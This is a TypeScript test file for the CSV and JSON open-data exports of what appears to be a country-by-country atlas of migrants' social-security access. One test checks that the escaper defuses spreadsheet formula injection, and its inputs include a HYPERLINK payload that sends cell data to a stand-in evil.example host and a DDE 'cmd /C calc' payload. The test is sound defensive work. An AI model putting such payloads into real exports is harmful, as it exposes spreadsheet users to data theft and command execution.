import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/lib/csv.ts';
import { accessMatrixColumns, accessMatrixCsv, atlasExport, matrixRows, ratificationColumns, ratificationsCsv } from '../../src/lib/open-data.ts';
import { accessMatrixColumnNames, atlasExportSchema, atlasJsonSchema, ratificationColumnNames } from '../../src/schemas/open-data.ts';
import { clinicSchema } from '../../src/schemas/clinic.ts';
import { countryRecord, researched } from '../support/country-fixtures.ts';

const italy = countryRecord('it', { name: 'Italy', ratifications: [{ convention: 'C097', status: 'ratified', year: 1952, source: { title: 'NORMLEX', url: 'https://normlex.ilo.org/x', type: 'convention' } }] }, {
  'refugee/medical-care': researched('full', 'Register with the national health service, "SSN", as Italians do.', { validAsOf: '2022-03-28' }),
  'undocumented/medical-care': researched('emergency-only', 'Urgent care,\nwith an STP code.'),
});
const germany = countryRecord('de', { name: 'Germany' });

describe('CSV', () => {
  it('quotes commas, quotes and line breaks, and keeps non-Latin text as it is', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "yes"')).toBe('"say ""yes"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('line\rbreak')).toBe('"line\rbreak"');
    expect(csvField('طالب لجوء')).toBe('طالب لجوء');
    expect(csvField('寻求庇护者，难民')).toBe('寻求庇护者，难民');
    expect(csvField(undefined)).toBe('');
    expect(csvField(1952)).toBe('1952');
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe('"\'+1+cmd|\' /C calc\'!A0"');
    expect(csvField('-2+3')).toBe('"\'-2+3"');
    expect(csvField('@SUM(A1:A2)')).toBe('"\'@SUM(A1:A2)"');
    expect(csvField('\t=1')).toBe('"\'\t=1"');
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    // Only at the start: a formula character later in the text is ordinary text.
    expect(csvField('Art. 2 = definitions')).toBe('Art. 2 = definitions');
    expect(csvField('a-b')).toBe('a-b');
    // Numbers stay numbers, negative ones too.
    expect(csvField(-5)).toBe('-5');
  });

  it('ends every record with CRLF', () => {
    expect(toCsv([{ header: 'a', value: (r: string) => r }], ['x', 'y'])).toBe('a\r\nx\r\ny\r\n');
  });
});

describe('the access matrix download', () => {
  it('keeps its columns in the published order', () => {
    expect(accessMatrixColumns.map((c) => c.header)).toEqual([
      'country', 'country_name', 'status', 'branch', 'level', 'conditions', 'waiting_period',
      'legal_basis', 'source_url', 'source_citation', 'valid_as_of', 'last_reviewed', 'reviewed_by',
    ]);
    expect(accessMatrixColumns.map((c) => c.header)).toEqual([...accessMatrixColumnNames]);
    expect(ratificationColumns.map((c) => c.header)).toEqual([...ratificationColumnNames]);
  });

  it('has one row per country, status and branch, countries by code, then vocabulary order', () => {
    const rows = matrixRows([italy, germany]);
    expect(rows).toHaveLength(2 * 6 * 10);
    expect(rows.slice(0, 2).map((r) => `${r.country.code}/${r.status}/${r.branch}`)).toEqual(['de/migrant-worker/medical-care', 'de/migrant-worker/sickness']);
    expect(matrixRows([italy, germany], { status: 'refugee' })).toHaveLength(2 * 10);
    expect(matrixRows([italy, germany], { branch: 'family' })).toHaveLength(2 * 6);
  });

  it('writes researched cells with their conditions, basis, source and date, escaped', () => {
    const csv = accessMatrixCsv([italy], { branch: 'medical-care' });
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('country,country_name,status,branch,level,conditions,waiting_period,legal_basis,source_url,source_citation,valid_as_of,last_reviewed,reviewed_by');
    expect(lines).toContain('it,Italy,refugee,medical-care,full,"Register with the national health service, ""SSN"", as Italians do.",,"Test Act, art. 1",https://example.org/act,"Test Act, art. 1",2022-03-28,2026-10-01,turin-law-clinic');
    expect(csv).toContain('"Urgent care,\nwith an STP code."');
    expect(lines).toContain('it,Italy,asylum-seeker,medical-care,unknown,,,,,,2026-10-01,2026-10-01,turin-law-clinic');
  });

  it('lists every convention for every country, unknown where the file says nothing', () => {
    const lines = ratificationsCsv([italy]).split('\r\n');
    expect(lines[0]).toBe('country,country_name,convention,status,year,notes,source_url,last_reviewed');
    expect(lines[1]).toBe('it,Italy,C097,ratified,1952,,https://normlex.ilo.org/x,2026-10-01');
    expect(lines[2]).toBe('it,Italy,C102,unknown,,,,2026-10-01');
    expect(lines).toHaveLength(1 + 6 + 1);
  });
});

describe('atlas.json', () => {
  const clinic = { id: 'turin-law-clinic', data: clinicSchema.parse({ name: 'Clinic', university: 'U', city: 'Turin', country: 'it' }) };
  const exported = atlasExport([italy, germany], [clinic]);

  it('writes dates as YYYY-MM-DD and sorts countries by code', () => {
    expect(exported.countries.map((c) => c.code)).toEqual(['de', 'it']);
    expect(exported.countries[1]!.lastReviewed).toBe('2026-10-01');
    expect(JSON.stringify(exported)).not.toMatch(/T00:00:00/);
  });

  it('reads back with the same schemas as the content', () => {
    const roundTrip = atlasExportSchema.safeParse(JSON.parse(JSON.stringify(exported)));
    expect(roundTrip.error?.issues ?? []).toEqual([]);
  });

  it('has a JSON Schema describing countries, their matrix and clinics', () => {
    const schema = atlasJsonSchema() as { $schema: string; properties: Record<string, { items: { properties: Record<string, unknown>; required: string[] } }> };
    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    const country = schema.properties['countries']!.items;
    expect(country.required).toEqual(expect.arrayContaining(['code', 'name', 'access', 'ratifications']));
    expect(JSON.stringify(country.properties['access'])).toContain('emergency-only');
    expect(JSON.stringify(country.properties['lastReviewed'])).toContain('"format":"date"');
  });
});
